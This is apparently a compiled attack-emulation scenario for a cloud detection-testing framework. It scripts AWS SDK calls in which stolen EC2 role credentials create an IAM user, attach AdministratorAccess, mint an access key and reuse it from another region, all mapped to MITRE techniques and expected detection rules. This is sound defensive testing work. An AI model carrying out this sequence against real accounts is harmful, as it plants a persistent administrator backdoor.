import { AttachUserPolicyCommand, CreateAccessKeyCommand, CreateUserCommand, ListUsersCommand, } from '@aws-sdk/client-iam';
import { ListBucketsCommand } from '@aws-sdk/client-s3';
import { GetCallerIdentityCommand } from '@aws-sdk/client-sts';
import { awsCli, defineScenario, ec2Instance, minutes } from 'trailproof';
import { trustsService } from './support/policies.js';
const stolen = ec2Instance('i-0f3a9c1e5b7d24680', {
    role: 'web-server',
    as: 'stolen',
    place: 'amsterdam',
    client: awsCli({ os: 'kali' }),
});
export default defineScenario({
    title: 'Campaign: credentials of an instance become a user with a key',
    techniques: ['T1078.004', 'T1136.003', 'T1098.003', 'T1098.001'],
    detectedBy: [
        'iam-user-created-from-ec2-role',
        'iam-admin-policy-attached-to-user',
        'iam-access-key-for-another-user',
    ],
    world: {
        roles: {
            'web-server': { trust: trustsService('ec2.amazonaws.com'), attached: ['IAMFullAccess'] },
        },
    },
    cast: { stolen },
    attack: {
        'from the instance to a key used elsewhere': async (play) => {
            const thief = play.as(stolen);
            await thief.send(new GetCallerIdentityCommand({}), { technique: 'T1078.004' });
            await thief.send(new CreateUserCommand({ UserName: 'backup-agent' }), {
                technique: 'T1136.003',
            });
            await thief.send(new AttachUserPolicyCommand({
                UserName: 'backup-agent',
                PolicyArn: 'arn:aws:iam::aws:policy/AdministratorAccess',
            }), { technique: 'T1098.003' });
            const { AccessKey } = await thief.send(new CreateAccessKeyCommand({ UserName: 'backup-agent' }), { technique: 'T1098.001' });
            await play.wait(minutes(7));
            const backdoor = play.actor('backdoor', AccessKey, {
                place: 'singapore',
                client: awsCli({ os: 'ubuntu' }),
            });
            await play.as(backdoor).send(new ListUsersCommand({}), { technique: 'T1078.004' });
            await play.as(backdoor).send(new ListBucketsCommand({}), { technique: 'T1078.004' });
        },
    },
});
//# sourceMappingURL=campaign-instance-role.js.map